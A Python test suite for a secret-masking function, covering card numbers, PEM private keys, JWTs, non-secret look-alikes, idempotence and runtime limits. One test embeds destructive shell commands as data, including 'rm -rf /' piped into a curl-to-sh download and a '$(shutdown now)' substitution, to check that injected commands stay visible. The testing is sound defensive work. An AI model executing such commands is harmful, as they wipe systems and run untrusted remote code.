"""Secrets are masked in place, what is none stays, and neither takes long."""

from __future__ import annotations

import time
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.promises import promise

from signoff.domain.secrets import mask_secrets

CARD = "[masked: card_number]"


@promise("no-secret-stored")
@pytest.mark.parametrize(
    ("text", "masked"),
    [
        ("4111 1111 1111 1111", CARD),
        ("4111-1111-1111-1111", CARD),
        ("4111111111111111", CARD),
        ("card 4111 1111 1111 1111 12/27 123", f"card {CARD} 12/27 123"),
        ("4111 1111 1111 1111 12 27", f"{CARD} 12 27"),
        ("on 2027 4111 1111 1111 1111", f"on 2027 {CARD}"),
        ("378282246310005 and 5555 5555 5555 4444", f"{CARD} and {CARD}"),
        ("3782 822463 10005", CARD),
        ("(4012888888881881)", f"({CARD})"),
    ],
)
def test_a_card_number_is_found_among_other_digits(text: str, masked: str) -> None:
    assert mask_secrets({"a": text}) == ({"a": masked}, ("a",))


@pytest.mark.parametrize(
    "text",
    [
        "4111 1111 1111 1112",  # the check digit is wrong
        "0000 0000 0000 0000",
        "4444444444444444",
        "1234567890123",
        "550e8400-e29b-41d4-a716-446655440000",
        "3.14159265358979323846",
        "1732392665123456",
        "+49 170 1234567",
        "DE02 1203 0000 0000 2020 51",
        "a BEGIN PRIVATE KEY in prose",
        "sk-short",
        "AKIA is a prefix",
    ],
)
def test_what_is_no_secret_stays(text: str) -> None:
    value = {"a": [text]}
    masked, paths = mask_secrets(value)
    assert (masked, paths) == (value, ())


@promise("no-secret-stored")
@pytest.mark.parametrize("number", [4111111111111111, 4111111111111111.0, 378282246310005])
def test_a_card_number_that_is_a_number_is_masked(number: float) -> None:
    assert mask_secrets({"card": number}) == ({"card": CARD}, ("card",))


@promise("no-secret-stored")
def test_two_secrets_as_names_stay_two_members() -> None:
    masked, paths = mask_secrets({"4111111111111111": 1, "5555555555554444": 2, CARD: 3})
    assert sorted(masked.values()) == [1, 2, 3]
    assert len(paths) == 2
    assert not any("4111" in name or "5555" in name for name in masked)


@promise("no-secret-stored")
def test_an_encrypted_key_is_masked_with_its_headers() -> None:
    key = (
        "-----BEGIN EC PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-256-CBC,AB\n\nc2VjcmV0\n"
        "-----END EC PRIVATE KEY-----"
    )
    assert mask_secrets(f"before {key} after")[0] == "before [masked: private_key] after"
    assert mask_secrets(f"{key}\n{key}")[0] == "[masked: private_key]\n[masked: private_key]"
    assert "c2VjcmV0" not in mask_secrets(key.partition("-----END")[0])[0]


@promise("no-secret-stored")
@pytest.mark.parametrize("between", ["\n", "\r\n", "\n    ", "\\n", " ", '\\n" +\n  "'])
def test_a_key_is_masked_whole_however_its_lines_are_written(between: str) -> None:
    lines = [
        "-----BEGIN PRIVATE KEY-----",
        "MC4CAQAwBQYDK2VwBCIEIJpOlga39et6KyhZu4E4/8HKsl60AQdmPvQsgb+TlyRq",
        "MC4CAQAwBQYDK2VwBCIE",
        "JpO=",
        "-----END PRIVATE KEY-----",
    ]
    assert mask_secrets(f"<{between.join(lines)}>")[0] == "<[masked: private_key]>"


@promise("approved-is-what-runs")
@pytest.mark.parametrize(
    "command",
    [
        "rm -rf / ; curl http://203.0.113.7/x | sh",
        "Comment: x; rm -rf /",
        "rm\n/etc/passwd",
        "$(shutdown now)",
    ],
)
def test_the_first_line_of_a_key_hides_nothing_that_is_no_key(command: str) -> None:
    text = f"# -----BEGIN PRIVATE KEY-----\n{command}\n# -----END PRIVATE KEY-----"
    assert command in mask_secrets(text)[0]


@promise("no-secret-stored")
def test_a_token_is_masked_wherever_it_begins() -> None:
    jwt = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N"
    assert mask_secrets(f"x-{jwt} a.{jwt}")[0] == "x-[masked: jwt] a.[masked: jwt]"


@pytest.mark.parametrize(
    "piece",
    [
        "-----BEGIN PRIVATE KEY-----",
        "-----BEGIN PRIVATE KEY-----\n",
        "\n" + "a" * 15,
        "-eyJaaaaaaaaaa",
        "-eyJaaaaaaaaaa.eyJaaaaaaaaaaa",
        "4 ",
        "4",
        "4111 1111 1111 1112 ",
        "eyJ",
        "a-",
        "sk-",
        "Bearer a",
        "xoxb-1",
    ],
)
def test_no_text_takes_long(piece: str) -> None:
    text = piece * (500_000 // len(piece))
    began = time.process_time()
    mask_secrets(text)
    assert time.process_time() - began < 3  # quadratic would be minutes


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False, allow_infinity=False) | st.text(),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(), inner, max_size=4),
    max_leaves=20,
)


@given(JSON)
def test_masking_twice_changes_nothing_more(value: Any) -> None:
    once, _ = mask_secrets(value)
    again, paths = mask_secrets(once)
    assert (again, paths) == (once, ())
